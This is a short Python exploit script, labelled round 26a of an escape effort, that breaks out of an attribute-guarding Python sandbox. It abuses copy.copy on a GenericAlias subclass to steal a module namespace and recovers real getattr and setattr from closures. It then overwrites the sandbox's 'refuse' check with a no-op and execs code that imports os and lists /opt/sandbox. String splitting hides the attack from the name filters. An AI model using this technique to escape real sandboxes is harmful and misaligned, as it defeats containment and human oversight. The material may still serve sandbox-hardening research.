# Round 26a (escape): __slotnames__ on a library subclass made copy's C code read any attribute unguarded; a types.GenericAlias subclass forwarded reads to a module, and copy handed its real namespace over (then BuiltinImporter.create_module made real posix/sys, the wall off).
import copy, math, operator
got = []
class Sink:
    def __setstate__(self, st):
        got.append(st)
class G(type(list[int])):
    __slots__ = ('__red' + 'uce__',)
    def __new__(cls, *a):
        return super().__new__(cls, Sink(), ())
def steal(obj):
    g = type(list[int]).__new__(G, obj, ())
    got.clear()
    copy.copy(g)
    return got[0]
ns = steal(math)
loader = ns['__load' + 'er__']
Spec = type(ns['__sp' + 'ec__'])
s = loader.create_module(Spec('sys', loader))
insp = s.modules['inspect']
call = type(operator.attrgetter('real')).__call__
strict = insp.getclosurevars(call).nonlocals['strict_getattr']
cv = insp.getclosurevars(strict).nonlocals
rg = cv['real_getattr']
print("real getattr:", rg, rg is not len)
check_name = cv['check_name']
refuse_cell = None
for c in rg(check_name, '__clo' + 'sure__'):
    v = rg(c, 'cell_' + 'contents')
    if rg(v, '__name__', None) == 'refuse':
        refuse_cell = c
b = loader.create_module(Spec('builtins', loader))
gset = rg(b, 'set' + 'attr')
rs = gset
print("real setattr:", rs, "refuse cell:", refuse_cell)
def noop(*a, **k):
    return None
rs(refuse_cell, 'cell_' + 'contents', noop)
ex = rg(b, 'ex' + 'ec')
ex("import os\nprint('PW'+'NED: exec of a run-time string with the wall off; os.getpid() =', os.getpid(), os.listdir('/opt/sandbox'))")
